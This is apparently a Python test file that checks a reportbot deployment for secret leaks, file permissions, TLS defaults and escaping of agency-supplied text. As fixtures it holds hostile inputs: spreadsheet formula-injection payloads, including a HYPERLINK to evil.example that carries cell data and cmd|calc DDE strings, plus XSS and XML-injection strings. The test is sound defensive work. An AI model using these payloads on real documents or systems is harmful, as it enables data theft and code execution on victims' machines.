"""Security of a deployment, checked on a real one: every command of a campaign run as the
operator would (subprocesses, DEBUG logging), then everything it left behind inspected.

- Secrets (the IMAP password from an environment variable, the SMTP password from a file,
  and their AUTH encodings) appear in no log line, no output, no export or digest, no
  stored file, not in the database, and not in the environment of the parse sandbox.
- The store, the database and its lock file are owner-only.
- Exports, the digest and the acknowledgement keep agency-supplied text as text: no
  spreadsheet formula, no markup in the DOCX or in HTML.
- config.example.toml (and the built-in defaults) use TLS for IMAP and SMTP.
"""
from __future__ import annotations

import base64
import io
import os
import stat
import subprocess
import sys
import time
import tomllib
import zipfile
from email import message_from_bytes, policy
from pathlib import Path

import openpyxl
from docx import Document
from sqlmodel import select

from db.models import OutboundMail
from tests.sites import (
    CAMPAIGN_FILE,
    ENTRY,
    OUR_ADDRESS,
    REPO,
    address,
    children,
    cmdline,
    kill_leftovers,
    outline_docx,
    write_config,
)

from .harness import START
from .world import agencies_csv, crlf_bytes

IMAP_SECRET = "Imap-S3cret-Pa55w0rd-9f2c"
SMTP_SECRET = "Smtp-S3cret-Pa55w0rd-71ab"
HOSTILE = {  # agency-supplied text, placed in the report's sections
    "I.1": "=HYPERLINK(\"http://evil.example/?\"&A1,\"bấm vào đây\")",
    "I.2": "+cmd|' /C calc'!A0",
    "I.3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "II": "<script>alert('xss')</script> ]]> <w:p><w:r><w:t>chèn</w:t></w:r></w:p> &amp; \x07\x1b",
    "IV": "-2+3 =1+1",
    "I.5": "=HYPERLINK(\"http://evil.example\") Tổng số đạt 12.500.000 lượt xem trong năm 2024.",
}
EVIL_NAME = "=Sở TT&TT <b>tỉnh</b> +1"  # an agency name pasted from a spreadsheet
EVIL_FILENAME = "<img src=x onerror=alert(1)>bao-cao.docx"
LATE = "2025-01-06T08:00:00+07:00"  # past the deadline


def _cli(site_dir: Path, *args: str, env: dict) -> subprocess.CompletedProcess:
    done = subprocess.run([sys.executable, "-c", ENTRY, *args, "--config", str(site_dir / "config.toml")],
                          cwd=site_dir, env=env, capture_output=True, timeout=300, check=False)
    (site_dir / "cli-output.log").open("ab").write(b"$ " + " ".join(args).encode() + b"\n" + done.stdout + done.stderr)
    return done


def _config(site_dir: Path, imap, smtp) -> None:
    (site_dir / "smtp-password").write_text(SMTP_SECRET)
    os.chmod(site_dir / "smtp-password", 0o600)
    write_config(site_dir, db_url="sqlite:///var/reportbot.db", smtp=(smtp.host, smtp.port),
                 imap=(imap.host, imap.port), username=imap.username,
                 smtp_more='username = "reportbot"\npassword_file = "smtp-password"',
                 imap_more='password_env = "REPORTBOT_IMAP_PASSWORD"\ntimeout_seconds = 5')


def _hostile_report(code: str) -> bytes:
    from email.message import EmailMessage

    report = outline_docx(lambda node: HOSTILE.get(node, f"Nội dung mục {node}.").replace("\x07", "")
                          .replace("\x1b", ""))
    msg = EmailMessage()
    msg["From"], msg["To"] = f"Văn thư <{address(code)}>", OUR_ADDRESS
    msg["Subject"] = f"Re: [5422/BTTTT-CBC #{code}] =cmd|' /C calc'!A0 <b>Báo cáo</b>"
    msg["Message-ID"] = f"<hostile-{code}@{code.lower()}.example>"
    msg.set_content("Xin gửi báo cáo.")
    msg.add_attachment(report, maintype="application", subtype="octet-stream", filename=EVIL_FILENAME)
    return crlf_bytes(msg)


def _texts_of(path: Path) -> bytes:
    """A file's bytes, and for a zip container (DOCX, XLSX) its members' too."""
    data = path.read_bytes()
    if data[:2] == b"PK":
        try:
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                data += b"".join(z.read(n) for n in z.namelist())
        except zipfile.BadZipFile:
            pass
    return data


def _secret_forms() -> list[bytes]:
    forms = [IMAP_SECRET.encode(), SMTP_SECRET.encode()]
    for user, secret in (("reportbot", SMTP_SECRET),):
        forms.append(base64.b64encode(f"\0{user}\0{secret}".encode()))  # AUTH PLAIN
        forms.append(base64.b64encode(secret.encode()))                  # AUTH LOGIN
    return forms


def test_a_deployment_leaks_no_secret_keeps_files_private_and_escapes_agency_text(
        tmp_path, dovecot, smtp_server_factory):
    imap = dovecot.add_user(password=IMAP_SECRET)
    smtp = smtp_server_factory(auth=("reportbot", SMTP_SECRET))
    site_dir = tmp_path / "deploy"
    site_dir.mkdir()
    _config(site_dir, imap, smtp)
    # CQ0004 never reports: the digest lists it, by name, as overdue
    (site_dir / "agencies.csv").write_bytes(agencies_csv(4).replace("Cơ quan thử nghiệm số 0004".encode(),
                                                                     EVIL_NAME.encode()))
    env = {k: v for k, v in os.environ.items() if k != "REPORTBOT_CONFIG"}
    env |= {"REPORTBOT_IMAP_PASSWORD": IMAP_SECRET, "REPORTBOT_LOG_LEVEL": "DEBUG", "REPORTBOT_DEBUG": "1"}
    now = START.isoformat()
    for args in (["init"], ["campaign", "load", str(CAMPAIGN_FILE)], ["agencies", "import", "agencies.csv"],
                 ["dispatch"]):
        assert _cli(site_dir, *args, env=env).returncode == 0, (site_dir / "cli-output.log").read_text()
    dovecot.append(imap, _hostile_report("CQ0001"))
    assert _cli(site_dir, "poll", env=env).returncode == 0
    sandbox_envs = _run_briefly(site_dir, env, dovecot, imap)
    for args in (["tick", "--now", now], ["status", "--format", "json"], ["digest", "--out", "out/digest.html", "--now", LATE],
                 ["export", "--out", "out", "--now", now], ["quarantine", "list"]):
        assert _cli(site_dir, *args, env=env).returncode == 0, (site_dir / "cli-output.log").read_text()
    bad = dict(env, REPORTBOT_IMAP_PASSWORD=IMAP_SECRET + "-wrong")
    assert _cli(site_dir, "poll", env=bad).returncode != 0  # a refused login: its error is logged too

    # 1. no secret anywhere the deployment wrote, nor in the parse sandbox's environment
    written = [p for p in site_dir.rglob("*") if p.is_file() and p.name != "smtp-password"]
    leaks = [(p.relative_to(site_dir), form) for p in written for form in _secret_forms() if form in _texts_of(p)]
    assert leaks == []
    assert sandbox_envs and not any(form in e for e in sandbox_envs for form in _secret_forms())
    assert [m for m in smtp.messages if any(f in m.data for f in _secret_forms())] == []
    print("\nfiles scanned for secrets:", sorted(str(p.relative_to(site_dir)) for p in written))
    # the scan covered every kind of file the deployment writes (a count would move with SQLite's WAL files)
    names = {p.name for p in written}
    assert {"reportbot.db", "cli-output.log", "run-json.log", "run-text.log", "digest.html"} <= names
    assert {p.suffix for p in written if p.parent.name == "out"} >= {".html", ".docx", ".xlsx"}
    assert len([p for p in written if (site_dir / "var" / "mail") in p.parents]) == 3  # the 3 raw replies

    # 2. owner-only store and database
    var = site_dir / "var"
    loose = [f"{p.relative_to(site_dir)} {stat.filemode(p.stat().st_mode)}" for p in [var, *var.rglob("*")]
             if p.stat().st_mode & 0o077]
    assert loose == []
    assert {p.name for p in var.iterdir()} >= {"reportbot.db", "mail", "blobs"}

    # 3. agency text stays text in the exports and the acknowledgement
    _check_xlsx(next((site_dir / "out").glob("*.xlsx")))
    _check_docx(next((site_dir / "out").glob("*.docx")))
    _check_ack(site_dir)
    _check_digest(site_dir / "out" / "digest.html")
    # 4. export and digest files, written where the operator asked, are owner-only too
    modes = {p.name: stat.filemode(p.stat().st_mode) for p in (site_dir / "out").iterdir()}
    assert len(modes) == 6 and set(modes.values()) == {"-rw-------"}, modes


def _run_briefly(site_dir: Path, env: dict, dovecot, imap) -> list[bytes]:
    """`reportbot run` (JSON and text logs) taking one more report each; returns the environments
    of its parse sandbox (the forkserver once it re-executed itself clean, and its children),
    read while it runs."""
    envs: list[bytes] = []
    for fmt in ("json", "text"):
        dovecot.append(imap, _hostile_report("CQ0002" if fmt == "json" else "CQ0003"))
        args = [sys.executable, "-c", ENTRY, "run", "--config", str(site_dir / "config.toml"), "--now",
                START.isoformat(), "--tick-seconds", "0.5", "--log-format", fmt]
        with open(site_dir / f"run-{fmt}.log", "wb") as log:
            proc = subprocess.Popen(args, cwd=site_dir, env=env, stdout=log, stderr=log)
        try:
            end = time.monotonic() + 60
            while time.monotonic() < end and proc.poll() is None:
                for server in (c for c in children(proc.pid) if "multiprocessing.forkserver" in cmdline(c)):
                    envs += [e for e in map(_environ, [server]) if b"REPORTBOT_PARSE_SERVER=" in e]
                    envs += [e for e in map(_environ, children(server)) if e]
                if b"1 processed" in (site_dir / f"run-{fmt}.log").read_bytes():
                    break
                time.sleep(0.02)
            else:
                raise AssertionError(f"reportbot run ({fmt} logs) did not take its report within 60 s")
        finally:
            proc.terminate()
            proc.wait(30)
    return envs


def _environ(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/environ").read_bytes()
    except OSError:
        return b""


def _check_xlsx(path: Path) -> None:
    wb = openpyxl.load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    named = [c for c in cells if c.value == EVIL_NAME]
    assert named and all(c.data_type == "s" for c in named)  # a string cell, not a formula
    comments = " ".join(c.comment.text for c in cells if c.comment)
    assert "lượt xem" in comments  # the agency's own words, kept as a note
    with zipfile.ZipFile(path) as z:
        sheets = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
    assert b"<f>" not in sheets and b"<f " not in sheets  # no formula anywhere


def _check_docx(path: Path) -> None:
    doc = Document(path)  # parses: the XML is well formed
    text = "\n".join(p.text for p in doc.paragraphs) + "\n".join(
        c.text for t in doc.tables for row in t.rows for c in row.cells)
    assert "<script>alert('xss')</script>" in text and "<w:p>" in text  # kept as text
    with zipfile.ZipFile(path) as z:
        xml = z.read("word/document.xml")
    assert b"<script>" not in xml and b"&lt;script&gt;" in xml


def _check_ack(site_dir: Path) -> None:
    from bot.core.app import App
    from bot.core.config import load_config
    from bot.outbound.outbox import read_body

    app = App(load_config(site_dir / "config.toml"))
    with app.session() as s:
        ids = s.exec(select(OutboundMail.id).where(OutboundMail.kind == "ack")).all()
        bodies = [read_body(s, i) for i in ids]
    app.engine.dispose()
    assert bodies
    for raw in bodies:
        msg = message_from_bytes(raw, policy=policy.default)
        html = msg.get_body(("html",)).get_content()
        assert "<img" not in html and "src=x onerror=alert(1)" in html  # the file's name, made inert


def _check_digest(path: Path) -> None:
    html = path.read_text(encoding="utf-8")
    assert "<b>tỉnh</b>" not in html and "&lt;b&gt;tỉnh&lt;/b&gt;" in html


def test_config_example_and_defaults_use_tls_for_both_protocols():
    from bot.core.config import Config, load_config

    example = tomllib.loads((REPO / "config.example.toml").read_text(encoding="utf-8"))
    assert (example["imap"]["security"], example["imap"]["port"]) == ("tls", 993)
    assert (example["smtp"]["security"], example["smtp"]["port"]) == ("starttls", 587)
    loaded, defaults = load_config(REPO / "config.example.toml"), Config()
    for cfg in (loaded, defaults):
        assert (cfg.imap.security, cfg.imap.port, cfg.smtp.security, cfg.smtp.port) == ("tls", 993, "starttls", 587)
    kill_leftovers()
